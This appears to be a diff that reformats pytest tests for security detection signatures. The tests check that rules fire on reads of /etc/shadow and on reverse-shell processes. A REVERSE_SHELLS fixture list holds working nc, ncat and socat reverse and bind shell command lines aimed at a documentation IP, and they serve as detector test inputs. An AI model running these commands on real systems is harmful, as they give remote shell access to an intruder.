@@ -75,7 +75,9 @@ def exec_event(pathname: str, argv: list[str], *, parsed: bool = False, containe
 
 @pytest.mark.parametrize("flags", [O_RDONLY_LARGEFILE, "O_RDONLY|O_LARGEFILE", O_RDWR, "O_RDWR|O_CLOEXEC"])
 def test_ex1_fires_on_shadow_read_by_user(flags: int | str) -> None:
-    assert_fires(ShadowFileRead, [file_open("/etc/shadow", flags, uid=1000)], {"path": "/etc/shadow", "uid": 1000}, count=1)
+    assert_fires(
+        ShadowFileRead, [file_open("/etc/shadow", flags, uid=1000)], {"path": "/etc/shadow", "uid": 1000}, count=1
+    )
 
 
 def test_ex1_fires_on_gshadow_in_a_container() -> None:
@@ -102,7 +104,9 @@ def test_ex1_silent(path: str, flags: int | str, uid: int, comm: str) -> None:
 
 def test_ex1_with_the_fixtures(make_event, run_signature) -> None:
     events = [
-        make_event("security_file_open", {"pathname": "/etc/shadow", "flags": "O_RDONLY"}, userId=1000, processName="cat"),
+        make_event(
+            "security_file_open", {"pathname": "/etc/shadow", "flags": "O_RDONLY"}, userId=1000, processName="cat"
+        ),
         make_event("security_file_open", {"pathname": "/etc/shadow", "flags": "O_RDONLY"}, userId=0, processName="cat"),
         make_event("openat", {"dirfd": -100, "pathname": "/etc/shadow", "flags": 0, "mode": 0}, userId=1000),
     ]
@@ -115,11 +119,17 @@ def test_ex1_with_the_fixtures(make_event, run_signature) -> None:
 
 
 REVERSE_SHELLS = [
-    pytest.param("/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], "nc.traditional", id="nc-e"),
-    pytest.param("/usr/bin/nc.traditional", ["nc", "-nve", "/bin/bash", "203.0.113.7", "4444"], "nc.traditional", id="nc-cluster"),
+    pytest.param(
+        "/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], "nc.traditional", id="nc-e"
+    ),
+    pytest.param(
+        "/usr/bin/nc.traditional", ["nc", "-nve", "/bin/bash", "203.0.113.7", "4444"], "nc.traditional", id="nc-cluster"
+    ),
     pytest.param("/usr/bin/ncat", ["ncat", "--sh-exec", "bash -i", "203.0.113.7", "443"], "ncat", id="ncat-sh-exec"),
     pytest.param("/usr/bin/ncat", ["ncat", "--exec=/bin/sh", "-l", "9001"], "ncat", id="ncat-bind-shell"),
-    pytest.param("/usr/bin/socat", ["socat", "TCP:203.0.113.7:4444", "EXEC:/bin/bash,pty,stderr,setsid"], "socat", id="socat"),
+    pytest.param(
+        "/usr/bin/socat", ["socat", "TCP:203.0.113.7:4444", "EXEC:/bin/bash,pty,stderr,setsid"], "socat", id="socat"
+    ),
     pytest.param("/bin/busybox", ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"], "nc", id="busybox-nc"),
 ]
 
